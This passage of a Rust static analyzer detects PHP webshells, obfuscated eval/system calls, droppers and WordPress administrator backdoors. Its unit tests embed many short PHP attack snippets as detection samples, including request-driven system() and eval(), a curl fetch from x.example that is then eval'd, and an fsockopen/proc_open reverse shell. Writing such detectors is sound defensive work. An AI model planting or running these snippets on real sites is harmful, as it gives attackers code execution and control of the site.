                            let n = *n;
                            let s = self.env.entry((self.scope, n)).or_default();
                            if s.read && (v.labels & !s.labels & (TAINT | UPLOAD | ELEM_INPUT)) != 0 {
                                self.stale = true;
                            }
                            s.labels |= v.labels | UNKNOWN;
                            s.lit = LitState::Conflict;
                        }
                        e += 1;
                    }
                }
                return (Val::default(), if self.op(e, b")") { e + 1 } else { e }, None);
            }
            b"new" => {
                let mut e = i + 1;
                let reflect =
                    matches!(self.tok(e), Some(Tok::Ident(c)) if c.eq_ignore_ascii_case(b"ReflectionFunction"));
                let spl_file = matches!(self.tok(e), Some(Tok::Ident(c)) if c.eq_ignore_ascii_case(b"SplFileObject"));
                if matches!(self.tok(e), Some(Tok::Ident(_)) | Some(Tok::Var(_))) {
                    e += 1;
                }
                if self.op(e, b"(") {
                    let (args, end) = self.args(e);
                    if reflect && args.first().is_some_and(|a| a.labels & INPUT != 0) {
                        self.hit(Why::DynamicCallFromInput, Danger::Critical, i);
                    }
                    // A file the visitor names, opened for writing.
                    let writes = args
                        .get(1)
                        .and_then(|a| a.lit.as_deref())
                        .is_some_and(|m| m.iter().any(|c| matches!(c, b'w' | b'a' | b'x' | b'c' | b'+')));
                    if spl_file && writes && args.first().is_some_and(|a| a.labels & ANY_INPUT != 0) {
                        self.hit(Why::UploadDropper, Danger::High, i);
                    }
                    e = end;
                }
                return (Val::unknown(), e, None);
            }
            b"array" | b"list" if call => {
                let (vals, e) = self.list(i + 1, b")");
                if name == b"list" && self.op(e, b"=") && self.op(e.wrapping_sub(1), b")") {
                    return self.destructure(i + 1, e);
                }
                return (array_val(&vals), e, None);
            }
            b"eval" if call => {
                let (args, e) = self.args(i + 1);
                let v = args.into_iter().next().unwrap_or_default();
                self.code(&v, i, true);
                return (Val::unknown(), e, None);
            }
            b"extract" | b"parse_str" | b"import_request_variables" if call => {
                let (args, e) = self.args(i + 1);
                if args.first().is_some_and(|a| a.labels & INPUT != 0) {
                    // Every variable may now come from the request.
                    if let (b"parse_str", Some(Tok::Var(n))) = (name, self.tok(e.saturating_sub(2))) {
                        let n = *n;
                        self.env.entry((self.scope, n)).or_default().labels |= INPUT;
                    } else if !self.extracted.contains(&self.scope) {
                        self.extracted.push(self.scope);
                    }
                    self.stale = true;
                }
                return (Val::default(), e, None);
            }
            _ => {}
        }
        if call {
            let (args, e) = self.args(i + 1);
            let v = self.call(name, &args, i, false);
            return self.postfix(v, e, None, i);
        }
        if self.op(i + 1, b"::") {
            return self.postfix(Val::unknown(), i + 1, None, i);
        }
        // A constant or keyword.
        (Val::default(), i + 1, None)
    }

    /// `function name(...) {…}` (own variables) or a closure (shares the enclosing ones).
    fn function(&mut self, i: usize) -> (Val, usize, Option<Target<'a>>) {
        let mut j = i + 1;
        if self.op(j, b"&") {
            j += 1;
        }
        let fname = match self.tok(j) {
            Some(Tok::Ident(n)) => Some(lower(n)),
            _ => None,
        };
        let named = fname.is_some();
        if named {
            j += 1;
        }
        if !self.op(j, b"(") {
            return (Val::default(), i + 1, None);
        }
        let params = (j + 1, self.close_of(j));
        j = params.1 + 1;
        // `use (...)`, a return type, then the body (or `;` for an abstract method, `=>` for fn).
        while let Some(t) = self.tok(j) {
            match t {
                Tok::Op(b"{") | Tok::Op(b";") | Tok::Op(b"=>") => break,
                Tok::Ident(u) if u.eq_ignore_ascii_case(b"use") && self.op(j + 1, b"(") => j = self.close_of(j + 1) + 1,
                _ => j += 1,
            }
        }
        if self.op(j, b"=>") {
            let (_, e, _) = self.expr(j + 1);
            return (Val::unknown(), e, None);
        }
        if !self.op(j, b"{") {
            return (Val::default(), j, None);
        }
        let close = self.close_of(j);
        let outer = self.scope;
        if named {
            self.scope = self.next_scope;
            self.next_scope += 1;
        }
        // Parameters: where they end up says whether the function runs its argument.
        for k in params.0..params.1 {
            if let Some(Tok::Var(n)) = self.tok(k) {
                let n = *n;
                let slot = self.env.entry((self.scope, n)).or_default();
                slot.labels |= PARAM | UNKNOWN;
                slot.lit = LitState::Conflict;
            }
        }
        let outer_sinks = std::mem::take(&mut self.fn_sinks);
        self.block(j + 1, close);
        let sinks = std::mem::replace(&mut self.fn_sinks, outer_sinks);
        self.scope = outer;
        if let (Some(name), true) = (fname, sinks != 0)
            && self.wrappers.insert(name, sinks) != Some(sinks)
        {
            // Calls read before the definition are read again.
            self.stale = true;
        }
        (Val { labels: UNKNOWN | sinks, ..Val::default() }, close + 1, None)
    }

    /// A call of a function (or closure) that runs its argument as code or a command.
    fn wrapped(&mut self, wraps: Labels, args: &[Val], i: usize) {
        let mut v = Val::default();
        for a in args {
            v.labels |= a.labels & (ANY_INPUT | DECODED | REMOTE | BLOB | PARAM);
        }
        if v.labels & !PARAM == 0 && v.labels & PARAM != 0 {
            // A wrapper of a wrapper.
            self.fn_sinks |= wraps;
            return;
        }
        if wraps & WRAPS_SHELL != 0 {
            self.shell(&v, i, false);
        }
        if wraps & WRAPS_CODE != 0 {
            self.code(&v, i, false);
        }
    }

    /// A call of a named function: its sinks and its value.
    fn call(&mut self, name: &[u8], args: &[Val], i: usize, via_variable: bool) -> Val {
        let arg = |n: usize| args.get(n).cloned().unwrap_or_default();
        let mut union = Val::default();
        for a in args {
            union.labels |= a.labels;
        }
        union.labels &= !PHP_NAME;
        if args.iter().any(|a| a.lit.as_deref() == Some(b"php://input".as_slice())) {
            return Val { labels: INPUT | UNKNOWN, ..Val::default() };
        }
        if let Some(w) = self.wrappers.get(name).copied() {
            self.wrapped(w, args, i);
        }
        if via_variable
            && (is(name, SHELL)
                || is(name, CODE)
                || is(name, &["file_put_contents", "move_uploaded_file", "preg_replace"]))
        {
            self.hit(Why::HiddenFunctionName, Danger::High, i);
        }
        let class = class(name);
        if class & C_DECODER != 0 {
            let a0 = arg(0);
            if a0.labels & BLOB != 0 {
                let nested = !matches!(name, b"base64_decode" | b"urldecode" | b"rawurldecode" | b"pack" | b"hex2bin");
                let d = if nested || a0.labels & DECODED != 0 { Danger::Medium } else { Danger::Low };
                self.hit(Why::EncodedBlob, d, i);
            }
            let lit = match (name, a0.lit.as_deref(), args.get(1).and_then(|a| a.lit.as_deref())) {
                (b"strrev", Some(s), _) => Some(s.iter().rev().copied().collect()),
                (b"str_rot13", Some(s), _) => Some(rot13(s)),
                (b"hex2bin", Some(s), _) => hex(s),
                (b"pack", Some(f), Some(s)) if f.eq_ignore_ascii_case(b"H*") => hex(s),
                (b"base64_decode", Some(s), _) if s.len() <= MAX_LIT => {
                    use base64::Engine;
                    let clean: Vec<u8> = s.iter().copied().filter(|c| !c.is_ascii_whitespace()).collect();
                    base64::engine::general_purpose::STANDARD.decode(&clean).ok()
                }
                (b"urldecode" | b"rawurldecode", Some(s), _) => Some(percent_encoding::percent_decode(s).collect()),
                _ => None,
            };
            return Val { labels: union.labels | DECODED, lit, atoms: 0 };
        }
        match name {
            b"chr" => {
                let c = arg(0).lit.as_deref().and_then(parse_num).map(|n| vec![(n.rem_euclid(256)) as u8]);
                return Val { labels: arg(0).labels & TAINT, lit: c, atoms: 1 };
            }
            b"sprintf" if args.len() >= 3 && args.iter().all(|a| a.lit.is_some()) => {
                // `sprintf('%s%s', 'sys', 'tem')`: only `%s` pieces are folded.
                let f = arg(0).lit.unwrap_or_default();
                let mut out = Vec::new();
                let mut k = 1;
                let mut it = f.iter().copied().peekable();
                while let Some(c) = it.next() {
                    match (c, it.peek()) {
                        (b'%', Some(b's')) => {
                            it.next();
                            out.extend_from_slice(args.get(k).and_then(|a| a.lit.as_deref()).unwrap_or_default());
                            k += 1;
                        }
                        (b'%', _) => return Val::unknown(),
                        _ => out.push(c),
                    }
                }
                return Val { labels: ASSEMBLED, lit: Some(out), atoms: 0 };
            }
            b"strtr" if args.len() == 3 => {
                let (a, b, c) = (arg(0), arg(1), arg(2));
                let lit = match (&a.lit, &b.lit, &c.lit) {
                    (Some(s), Some(from), Some(to)) => Some(
                        s.iter()
                            .map(|ch| from.iter().position(|f| f == ch).and_then(|k| to.get(k)).copied().unwrap_or(*ch))
                            .collect(),
                    ),
                    _ => None,
                };
                return Val { labels: union.labels | DECODED, lit, atoms: 0 };
            }
            b"wp_insert_user" | b"wp_create_user" | b"wp_update_user" => {
                // An administrator made with a login or password from the request.
                if union.labels & ANY_INPUT != 0
                    && self.strings_in_call(i, |s| s.eq_ignore_ascii_case(b"administrator"))
                {
                    self.hit(Why::AdminBackdoor, Danger::Critical, i);
                }
                return Val::unknown();
            }
            b"add_action" | b"add_filter" if arg(0).lit.as_deref() == Some(b"pre_user_query".as_slice()) => {
                // A user left out of the admin's list of users.
                let hides = self.strings_in_call(i, |s| {
                    let l = lower(s);
                    memchr::memmem::find(&l, b"user_login").is_some()
                        && [b"!=".as_slice(), b"<>", b"not in", b"not like"]
                            .iter()
                            .any(|op| memchr::memmem::find(&l, op).is_some())
                });
                if hides {
                    self.hit(Why::AdminBackdoor, Danger::High, i);
                }
                return Val::unknown();
            }
            b"mail" => {
                // Recipients and headers (or an encoded body) all chosen by the visitor.
                let free = |v: &Val| v.labels & ANY_INPUT != 0 && v.labels & FIXED_HEAD == 0;
                if free(&arg(0)) && (free(&arg(3)) || arg(2).labels & (DECODED | BLOB) != 0) {
                    self.hit(Why::MailFromInput, Danger::High, i);
                }
                return Val::unknown();
            }
            b"exif_read_data" | b"iptcparse" => {
                // Text hidden in an image's headers.
                return Val { labels: DECODED | UNKNOWN, ..Val::default() };
            }
            b"str_replace" | b"str_ireplace" => {
                let (a, b, c) = (arg(0), arg(1), arg(2));
                let lit = match (&a.lit, &b.lit, &c.lit) {
                    (Some(a), Some(b), Some(c)) => Some(replace(c, a, b)),
                    _ => None,
                };
                return Val { labels: union.labels, lit, atoms: 0 };
            }
            b"assert" => {
                let a = arg(0);
                if a.labels & (TAINT | PARAM) != 0 && a.labels & OPERATED == 0 {
                    self.code(&a, i, false);
                }
                return Val::unknown();
            }
            b"create_function" => {
                let body = arg(1);
                self.code(&body, i, true);
                return Val { labels: UNKNOWN | (body.labels & TAINT), ..Val::default() };
            }
            b"preg_replace" | b"preg_filter" => {
                let p = arg(0);
                if p.labels & INPUT != 0 && p.labels & FIXED_HEAD == 0 {
                    self.hit(Why::CodeFromInput, Danger::Critical, i);
                } else if p.lit.is_none()
                    && p.labels & (DECODED | REMOTE) != 0
                    && !matches!(self.tok(i + 2), Some(Tok::Str { .. }))
                {
                    // A pattern taken whole from decoded or fetched data (an image's headers).
                    self.hit(Why::EvalOfDecoded, Danger::Critical, i);
                } else if p.lit.as_deref().is_some_and(preg_has_e) {
                    let d = if (arg(1).labels | arg(2).labels) & TAINT != 0 { Danger::Critical } else { Danger::High };
                    self.hit(Why::PregReplaceEval, d, i);
                }
                return Val { labels: union.labels | UNKNOWN, ..Val::default() };
            }
            b"mb_ereg_replace" | b"mb_eregi_replace" => {
                if arg(3).lit.as_deref().is_some_and(|o| o.contains(&b'e')) {
                    self.hit(Why::PregReplaceEval, Danger::High, i);
                }
                return Val::unknown();
            }
            b"file_put_contents" | b"fwrite" | b"fputs" => {
                let (path, data) = (arg(0), arg(1));
                // Installers and editors write what a visitor typed too: strong only when the
                // visitor also picks the file, or the file is PHP, or the data is a blob.
                if data.labels & (ANY_INPUT | REMOTE | DECODED) != 0 {
                    let strong = path.labels & (ANY_INPUT | PHP_NAME) != 0 || data.labels & BLOB != 0;
                    self.hit(Why::UploadDropper, if strong { Danger::High } else { Danger::Low }, i);
                }
                return Val::unknown();
            }
            b"move_uploaded_file" | b"copy" | b"rename" => {
                let (src, dst) = (arg(0), arg(1));
                if src.labels & UPLOAD != 0 || (name == b"copy" && src.labels & INPUT != 0) {
                    let d = if dst.labels & (ANY_INPUT | PHP_NAME) != 0 { Danger::High } else { Danger::Low };
                    self.hit(Why::UploadDropper, d, i);
                } else if name == b"copy" && src.lit.as_deref().is_some_and(|s| s.starts_with(b"http")) {
                    self.hit(Why::UploadDropper, Danger::Low, i);
                }
                return Val::unknown();
            }
            b"getenv" => {
                let l = if arg(0).lit.as_deref().is_some_and(server_key_is_input) { INPUT } else { 0 };
                return Val { labels: l | UNKNOWN, ..Val::default() };
            }
            b"file_get_contents" | b"fopen" | b"file" | b"readfile" | b"fgets" | b"fread" | b"stream_get_contents" => {
                let a0 = arg(0);
                let remote = a0.lit.as_deref().is_some_and(|s| {
                    let s = lower(s);
                    s.starts_with(b"http://") || s.starts_with(b"https://") || s.starts_with(b"ftp://")
                });
                let l = if remote { REMOTE } else { 0 };
                return Val { labels: union.labels & (ANY_INPUT | REMOTE | DECODED) | l | UNKNOWN, ..Val::default() };
            }
            _ => {}
        }
        if class & C_SHELL != 0 {
            // The command is the first argument, or a later one (`pcntl_exec('/bin/sh', [...])`).
            let mut cmd = arg(0);
            if name == b"pcntl_exec" {
                cmd.labels |= arg(1).labels & (ANY_INPUT | DECODED | REMOTE | ASSEMBLED);
            }
            if name == b"proc_open" && arg(1).labels & REMOTE != 0 {
                // A shell whose input and output are a network connection (a reverse shell).
                self.hit(Why::ShellFromInput, Danger::Critical, i);
            }
            self.shell(&cmd, i, false);
            return Val::unknown();
        }
        if class & C_CALLBACK != 0
            && let Some((_, pos)) = CALLBACKS.iter().find(|(n, _)| n.as_bytes() == name)
        {
            let cb = arg(*pos);
            let rest: Vec<Val> = args.iter().enumerate().filter(|(k, _)| k != pos).map(|(_, a)| a.clone()).collect();
            self.callback(&cb, &rest, i);
            return Val::unknown();
        }
        if class & C_REMOTE != 0 {
            return Val { labels: REMOTE | UNKNOWN, ..Val::default() };
        }
        if class & C_INPUT != 0 {
            return Val { labels: INPUT | UNKNOWN, ..Val::default() };
        }
        if class & C_REDUCER != 0 {
            return Val::default();
        }
        Val { labels: union.labels & (ANY_INPUT | DECODED | REMOTE | UPLOAD | ASSEMBLED) | UNKNOWN, ..Val::default() }
    }

    /// A function called through a value: `$f(...)`, `$_GET['f'](...)`, `('sys'.'tem')(...)`.
    fn var_call(&mut self, callee: &Val, args: &[Val], i: usize) -> Val {
        let tainted_args = args.iter().any(|a| a.labels & (INPUT | DECODED | REMOTE | BLOB) != 0);
        if callee.labels & INPUT != 0 {
            self.hit(Why::DynamicCallFromInput, Danger::Critical, i);
            return Val::unknown();
        }
        if callee.labels & WRAPS != 0 {
            self.wrapped(callee.labels & WRAPS, args, i);
        }
        if let Some(name) = callee.lit.as_deref().map(lower) {
            if callee.labels & HIDDEN != 0 && !name.is_empty() {
                let d = if tainted_args { Danger::Critical } else { Danger::High };
                self.hit(Why::HiddenFunctionName, d, i);
            }
            return self.call(&name, args, i, true);
        }
        if callee.labels & HIDDEN != 0 {
            let d = if tainted_args { Danger::Critical } else { Danger::High };
            self.hit(Why::HiddenFunctionName, d, i);
        }
        // An unknown function of a blob or of request data: its result keeps their marks.
        let mut v = Val::unknown();
        for a in args {
            v.labels |= a.labels & (ANY_INPUT | DECODED | REMOTE | BLOB);
        }
        v
    }

    fn callback(&mut self, cb: &Val, rest: &[Val], i: usize) {
        let tainted = rest.iter().any(|a| a.labels & (INPUT | DECODED | REMOTE | BLOB) != 0);
        if cb.labels & INPUT != 0 {
            self.hit(Why::DynamicCallFromInput, Danger::Critical, i);
        } else if cb.labels & WRAPS != 0 {
            self.wrapped(cb.labels & WRAPS, rest, i);
        } else if let Some(name) = cb.lit.as_deref().map(lower) {
            if let Some(w) = self.wrappers.get(&name).copied() {
                self.wrapped(w, rest, i);
            } else if is(&name, SHELL) || is(&name, CODE) {
                self.hit(Why::HiddenFunctionName, if tainted { Danger::Critical } else { Danger::Medium }, i);
                if let Some(a) = rest.first() {
                    if is(&name, SHELL) {
                        self.shell(a, i, false);
                    } else {
                        self.code(a, i, false);
                    }
                }
            }
        } else if cb.labels & HIDDEN != 0 {
            self.hit(Why::HiddenFunctionName, if tainted { Danger::Critical } else { Danger::High }, i);
        }
    }

    /// Data that becomes PHP code. `eval_like`: an unknown value is worth a (low) note.
    fn code(&mut self, v: &Val, i: usize, eval_like: bool) {
        if v.labels & PARAM != 0 {
            self.fn_sinks |= WRAPS_CODE;
        }
        if v.labels & ANY_INPUT != 0 {
            self.hit(Why::CodeFromInput, Danger::Critical, i);
        } else if v.labels & (DECODED | ASSEMBLED | BLOB) != 0 {
            self.hit(Why::EvalOfDecoded, Danger::Critical, i);
        } else if v.labels & REMOTE != 0 {
            self.hit(Why::CodeFromInternet, Danger::Critical, i);
        } else if eval_like && v.lit.is_none() && v.labels & UNKNOWN != 0 {
            self.hit(Why::EvalOfVariable, Danger::Low, i);
        }
    }

    fn shell(&mut self, v: &Val, i: usize, backtick: bool) {
        if v.labels & PARAM != 0 {
            self.fn_sinks |= WRAPS_SHELL;
        }
        if v.labels & ANY_INPUT != 0 {
            self.hit(Why::ShellFromInput, Danger::Critical, i);
        } else if v.labels & (DECODED | ASSEMBLED | BLOB | REMOTE) != 0 {
            self.hit(Why::EvalOfDecoded, Danger::Critical, i);
        } else if backtick && v.labels & UNKNOWN != 0 {
            self.hit(Why::ShellFromInput, Danger::Low, i);
        }
    }

    fn include(&mut self, v: &Val, i: usize) {
        // Stream wrappers in the included path: `data:`/`php://input` run text as code,
        // `zip://`/`phar://` run code hidden inside an image or other data file.
        let (mut text_wrapper, mut body, mut archive, mut data_name) = (false, false, false, false);
        let mut k = i + 1;
        while k < i + 64 && (!self.terminator(k) || self.op(k, b")")) {
            if let Some(Tok::Str { value, .. }) = self.tok(k) {
                let l = lower(value);
                text_wrapper |= l.starts_with(b"data:") || l.starts_with(b"php://filter");
                body |= l.starts_with(b"php://input");
                archive |= l.starts_with(b"zip://") || l.starts_with(b"phar://");
                data_name |= DATA_ENDINGS.iter().any(|e| {
                    memchr::memmem::find(&l, e.as_bytes())
                        .is_some_and(|p| matches!(l.get(p + e.len()), None | Some(b'#' | b'/')))
                });
            }
            k += 1;
        }
        if body {
            self.hit(Why::CodeFromInput, Danger::Critical, i);
            return;
        }
        if text_wrapper {
            // Like `eval` of the text (template engines compile this way).
            self.code(&Val { labels: v.labels | UNKNOWN, ..Val::default() }, i, true);
            return;
        }
        if archive && data_name {
            self.hit(Why::IncludeOfData, Danger::High, i);
            return;
        }
        if v.labels & ANY_INPUT != 0 && v.labels & FIXED_HEAD == 0 {
            self.hit(Why::CodeFromInput, Danger::Critical, i);
        } else if v.labels & ANY_INPUT != 0 {
            // A file picked by the visitor inside a fixed folder: a risk, not a backdoor.
            self.hit(Why::CodeFromInput, Danger::Low, i);
        } else if v.labels & (DECODED | REMOTE | ASSEMBLED) != 0 {
            self.hit(Why::EvalOfDecoded, Danger::Critical, i);
        } else if let Some(p) = &v.lit {
            let p = lower(p);
            if p.starts_with(b"http://") || p.starts_with(b"https://") || p.starts_with(b"ftp://") {
                self.hit(Why::CodeFromInternet, Danger::Critical, i);
            } else if DATA_ENDINGS.iter().any(|e| p.ends_with(e.as_bytes())) || p.contains(&0) {
                self.hit(Why::IncludeOfData, Danger::High, i);
            }
        }
    }
}

/// An array literal: its elements' labels; single characters count as assembly pieces
/// (`implode('', ['a','s','s','e','r','t'])`).
fn array_val(vals: &[Val]) -> Val {
    let mut v = Val::default();
    for x in vals {
        v.labels |= x.labels & !(FIXED_HEAD | OPERATED);
    }
    let chars = vals
        .iter()
        .filter(|x| x.lit.as_ref().is_some_and(|l| l.len() == 1 && (l[0].is_ascii_alphabetic() || l[0] == b'_')))
        .count();
    if chars >= 3 && chars * 2 >= vals.len() {
        v.labels |= ASSEMBLED;
    }
    v
}

fn is_assign(o: &[u8]) -> bool {
    matches!(
        o,
        b"=" | b".="
            | b"+="
            | b"-="
            | b"*="
            | b"/="
            | b"%="
            | b"|="
            | b"&="
            | b"^="
            | b"??="
            | b"<<="
            | b">>="
            | b"**="
    )
}

/// Whether a literal `preg_replace` pattern has the `e` modifier (runs the replacement).
fn preg_has_e(p: &[u8]) -> bool {
    let p = p.trim_ascii_start();
    let Some(&d) = p.first() else { return false };
    if d.is_ascii_alphanumeric() || d == b'\\' {
        return false;
    }
    let close = match d {
        b'(' => b')',
        b'{' => b'}',
        b'[' => b']',
        b'<' => b'>',
        c => c,
    };
    let Some(end) = p[1..].iter().rposition(|c| *c == close) else { return false };
    let mods = &p[end + 2..];
    mods.iter().all(|c| c.is_ascii_alphabetic() || c.is_ascii_whitespace()) && mods.contains(&b'e')
}

#[cfg(test)]
mod tests {
    use super::super::php::tokenize;
    use super::*;

    fn sinks(src: &str) -> Vec<(Why, Danger)> {
        let t = tokenize(src.as_bytes(), usize::MAX);
        let mut v: Vec<(Why, Danger)> = analyze(&t).into_iter().map(|s| (s.why, s.danger)).collect();
        v.sort();
        v.dedup();
        v
    }

    #[test]
    fn request_data_into_code_and_shell() {
        assert_eq!(sinks("<?php $c = $_POST['c']; system($c);"), [(Why::ShellFromInput, Danger::Critical)]);
        assert_eq!(sinks("<?php $x = $_REQUEST; eval($x['a']);"), [(Why::CodeFromInput, Danger::Critical)]);
        assert_eq!(sinks("<?php eval('?>'.$_COOKIE['p']);"), [(Why::CodeFromInput, Danger::Critical)]);
        assert_eq!(sinks("<?php $h = getallheaders(); assert($h['X-Run']);"), [(Why::CodeFromInput, Danger::Critical)]);
        assert_eq!(sinks("<?php echo `{$_GET['c']}`;"), [(Why::ShellFromInput, Danger::Critical)]);
        assert_eq!(sinks("<?php $_GET['f']($_GET['a']);"), [(Why::DynamicCallFromInput, Danger::Critical)]);
    }

    #[test]
    fn hidden_names_are_resolved() {
        let s = "<?php $s = 'abcdefghijklmnopqrstuvwxyz_0123456789'; $f = $s{0}.$s{18}.$s{18}.$s{4}.$s{17}.$s{19}; $f($_POST['z']);";
        assert_eq!(
            sinks(s),
            [
                (Why::CodeFromInput, Danger::Critical),
                (Why::HiddenFunctionName, Danger::High),
                (Why::HiddenFunctionName, Danger::Critical)
            ]
        );
        let s = "<?php $k = strrev('metsys'); $k($_GET['c']);";
        assert!(sinks(s).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(s));
        let s = "<?php $f = \"\\x61\\x73\\x73\\x65\\x72\\x74\"; @$f(base64_decode($_REQUEST['x']));";
        assert!(sinks(s).contains(&(Why::CodeFromInput, Danger::Critical)), "{:?}", sinks(s));
    }

    #[test]
    fn a_later_assignment_reaches_an_earlier_use() {
        // In a loop, the name is set after the call that uses it: the second pass sees it.
        let s = "<?php while (true) { if ($n) { $f($_POST['x']); } $f = 'sys' . 'tem'; $n = 1; }";
        assert!(sinks(s).contains(&(Why::ShellFromInput, Danger::Critical)), "{:?}", sinks(s));
        let s = "<?php function run() { global $c; eval($c); } $c = $_COOKIE['c']; run();";
        assert_eq!(sinks(s), [(Why::EvalOfVariable, Danger::Low)], "functions have their own variables");
        let s = "<?php $x = 'echo 1;'; eval($x); $x = $_POST['x'];";
        assert_eq!(sinks(s), [(Why::CodeFromInput, Danger::Critical)]);
    }

    #[test]
    fn droppers_and_fetchers() {
        let s = "<?php move_uploaded_file($_FILES['f']['tmp_name'], $_FILES['f']['name']);";
        assert_eq!(sinks(s), [(Why::UploadDropper, Danger::High)]);
        let s = "<?php $ch = curl_init('http://x.example/p.txt'); $code = curl_exec($ch); eval('?>'.$code);";
        assert_eq!(sinks(s), [(Why::CodeFromInternet, Danger::Critical)]);
        assert_eq!(sinks("<?php include '/tmp/.x/favicon_3a1.ico';"), [(Why::IncludeOfData, Danger::High)]);
    }

    #[test]
    fn data_is_followed_through_functions_closures_properties_and_lists() {
        let crit =
            |src: &str, why: Why| assert!(sinks(src).contains(&(why, Danger::Critical)), "{src}: {:?}", sinks(src));
        crit("<?php run($_POST['t']); function run($c) { return system($c); }", Why::ShellFromInput);
        crit("<?php function a($x) { b($x); } function b($y) { eval($y); } a($_GET['x']);", Why::CodeFromInput);
        crit("<?php $r = function ($x) { eval($x); }; $r($_REQUEST['c']);", Why::CodeFromInput);
        crit("<?php array_map(function ($x) { assert($x); }, $_POST);", Why::CodeFromInput);
        crit(
            "<?php class A { function __destruct() { eval($this->d); } } $o = new A; $o->d = $_POST['d'];",
            Why::CodeFromInput,
        );
        crit("<?php list($f, $a) = explode('|', $_COOKIE['z']); $f($a);", Why::DynamicCallFromInput);
        crit("<?php [$f, $a] = explode('|', $_COOKIE['z']); $f($a);", Why::DynamicCallFromInput);
        crit("<?php $a = 'b'; $$a = 'system'; $b($_GET['c']);", Why::ShellFromInput);
        crit(
            "<?php $k = \"\\x13\\x19\\x13\\x14\\x06\\x0c\" ^ \"\\x60\\x60\\x60\\x60\\x63\\x61\"; $k($_GET['c']);",
            Why::ShellFromInput,
        );
        crit("<?php $f = sprintf('%s%s', 'sys', 'tem'); $f($_GET['c']);", Why::ShellFromInput);
        crit("<?php $f = strtr('qjqlzk', 'qjlzk', 'sytem'); $f($_GET['c']);", Why::ShellFromInput);
        crit("<?php include 'data://text/plain;base64,' . $_POST['p'];", Why::CodeFromInput);
        crit("<?php include 'php://input';", Why::CodeFromInput);
        crit("<?php $e = exif_read_data('a.jpg'); preg_replace($e['Make'], $e['Model'], '');", Why::EvalOfDecoded);
        crit(
            "<?php $s = fsockopen($_GET['h'], 80); proc_open('/bin/sh', [0 => $s, 1 => $s], $p);",
            Why::ShellFromInput,
        );
        crit(
            "<?php wp_insert_user(['user_login' => 'x', 'user_pass' => $_GET['p'], 'role' => 'administrator']);",
            Why::AdminBackdoor,
        );
        assert_eq!(
            sinks("<?php include 'zip://' . __DIR__ . '/logo.jpg#x.php';"),
            [(Why::IncludeOfData, Danger::High)]
        );
        assert_eq!(sinks("<?php $o = new SplFileObject($_POST['f'], 'w');"), [(Why::UploadDropper, Danger::High)]);
        assert_eq!(sinks("<?php mail($_POST['to'], 's', 'b', $_POST['h']);"), [(Why::MailFromInput, Danger::High)]);
    }

    #[test]
    fn ordinary_functions_templates_and_mail_are_quiet() {
        assert!(sinks("<?php function run($c) { return esc_html($c); } run($_POST['t']);").is_empty());
        assert!(sinks("<?php function t($f) { include $f; } t(__DIR__ . '/tpl.php');").is_empty());
        assert!(sinks("<?php $this->name = $_POST['n']; echo $this->name;").is_empty());
        assert!(sinks("<?php mail(get_option('admin_email'), $_POST['subject'], $_POST['message']);").is_empty());
        assert!(sinks("<?php wp_insert_user(['user_login' => $_POST['u'], 'role' => 'subscriber']);").is_empty());
        // A template engine compiling to PHP through data: is like eval of a variable (weak).
        assert_eq!(
            sinks("<?php return include('data://text/plain,' . urlencode($php));"),
            [(Why::EvalOfVariable, Danger::Low)]
        );
    }

    #[test]
    fn ordinary_code_is_quiet() {
        assert!(
            sinks("<?php function f($a) { return call_user_func($a, 1); } $x = $_GET['p']; echo esc_html($x);")
                .is_empty()
        );
        assert!(sinks("<?php require __DIR__ . '/vendor/autoload.php'; $cb = array($this, 'run'); $cb();").is_empty());
        assert!(sinks("<?php $r = preg_replace('/\\s+/e', ' ', $s);").iter().all(|(w, _)| *w == Why::PregReplaceEval));
        assert!(sinks("<?php $r = preg_replace('/\\s+/i', ' ', $s); assert($x > 0);").is_empty());
        assert!(sinks("<?php foreach ($_POST as $k => $v) { update_option($k, sanitize_text_field($v)); }").is_empty());
    }
}
